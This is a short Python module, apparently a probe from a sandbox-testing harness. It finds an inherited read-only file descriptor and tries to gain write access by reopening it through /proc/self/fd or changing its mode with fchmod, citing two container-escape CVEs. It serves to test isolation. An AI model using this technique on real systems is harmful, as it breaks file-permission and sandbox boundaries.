"""Get more rights out of an inherited descriptor that was opened for reading only.

Opening /proc/self/fd/N opens the file anew, with whatever rights its owner has; fchmod() changes
its mode, for which reading rights are enough.
Sources: proc(5); CVE-2019-19921; CVE-2025-52881.
"""

import os

import syscalls


def attempt(target):
    """Reopen for writing, or change the mode, of the file that the harness left open."""
    target.step("look")
    file = (target.device, target.inode)
    numbers = [number for number, is_ in syscalls.inherited() if (is_.st_dev, is_.st_ino) == file]
    if not numbers:
        return target.absent("descriptors 3 to 8191: none is the harness's file")
    target.step("reopen")
    if target.way == "fchmod":
        os.fchmod(numbers[0], target.mode)
        return "changed the mode"
    descriptor = os.open(target.way % numbers[0], os.O_RDWR)
    target.step("write")
    os.pwrite(descriptor, target.token.encode(), 0)
    return "wrote through %s" % target.way
